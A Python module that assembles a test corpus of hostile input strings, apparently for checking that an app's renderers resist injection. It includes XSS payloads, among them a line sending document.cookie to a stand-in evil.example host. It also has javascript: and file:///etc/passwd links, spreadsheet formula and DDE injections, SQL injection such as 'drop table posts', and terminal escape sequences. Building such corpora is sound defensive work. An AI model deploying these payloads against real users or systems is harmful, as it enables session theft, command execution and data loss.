"""Texts that somebody writes to make a reader's page, sheet or terminal do what they want."""

PAYLOADS = ("alert(1)", "fetch('https://evil.example/'+document.cookie)", "window.hit=1")
TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>open</a>",
    "<details open ontoggle={}>",
    "</textarea><script>{}</script>",
    "<!--><script>{}</script>",
    "<style>@import 'https://evil.example';{}</style>",
    "<b onmouseover={}>bold</b>",
)
LINKS = ("[open]({})", "![]({})", "<{}>", "{}", '<a href="{}">x</a>', "[x]: {}")
ADDRESSES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "vbscript:x"),
    *("data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "//evil.example/x"),
)
MARKDOWN = (
    *("# head", "**bold**", "`code`", "~~gone~~", "> quote", "- item", "| a | b |\n|---|---|"),
    *("***", "[x][y]", "```\nopen", "1. one", "![x](https://evil.example/p.png)", "&lt;b&gt;"),
)
DIRECTIVES = (
    *(":red[{}]", ":material/{}:", ":rainbow[{}]", ":blue-background[{}]", ":small[{}]"),
    *(":badge[{}]", ":streamlit:{}", ":shortcode_{}:", "$${}$$", "$\\href{{javascript:{}}}{{x}}$"),
    *(
        "\\({}\\)",
        "\\begin{{x}}{}\\end{{x}}",
        "<br>{}",
        "<sub>{}</sub>",
        "<b>{}</b><extra></extra>",
    ),
)
BRACES = ("{{7*7}}", "${HOME}", "{0.__class__}", "%(x)s", "%s%n", "#{7}", "<%= 7 %>", "{}", "{0}")
MARKUP = ("[/foo]", "[red]", "[link=https://evil.example]x[/link]", "[@click=x]y[/]", "[", "\\[")
FORMULAS = ("1+1", 'HYPERLINK("https://evil.example")', "cmd|' /C calc'!A0", "SUM(A1:A9)")
BEGINS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
SQL = (
    *("'; drop table posts; --", '" or 1=1', "$brand", "?", "/* x", "') union select 1", "\\'; --"),
)
ESCAPES = ("2J", "31m", "]0;owned", "]8;;https://evil.example", "]52;c;eA==", "c", "P1$r", "6n")
CONTROLS = ("\x00", "\x07", "\x08", "\r", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\x90", "\x9b")
HIDDEN = tuple(map(chr, (*range(0x200B, 0x2010), *range(0x202A, 0x202F), *range(0x2060, 0x206A))))
LONG = ("a", "ä", "\u0301", "👩‍", "[", "(", "<", "*", "&#", "@a ", "http://", "\n")

CORPUS = tuple(
    dict.fromkeys(
        (
            *(tag.format(what) for tag in TAGS for what in PAYLOADS),
            *(link.format(to) for link in LINKS for to in ADDRESSES),
            *MARKDOWN,
            *(one.format(what) for one in DIRECTIVES for what in ("x", "home", PAYLOADS[0])),
            *BRACES,
            *MARKUP,
            *(begin + what for begin in BEGINS for what in FORMULAS),
            *SQL,
            *(f"{sign}{'[' if sign == chr(27) and what[0] not in ']P' else ''}{what}\x07"
              for sign in ("\x1b", "\x9b") for what in ESCAPES),
            *(f"be{sign}fore" for sign in (*CONTROLS, *HIDDEN)),
            *(sign * (100_000 // len(sign)) for sign in LONG),
        )
    )
)  # fmt: skip
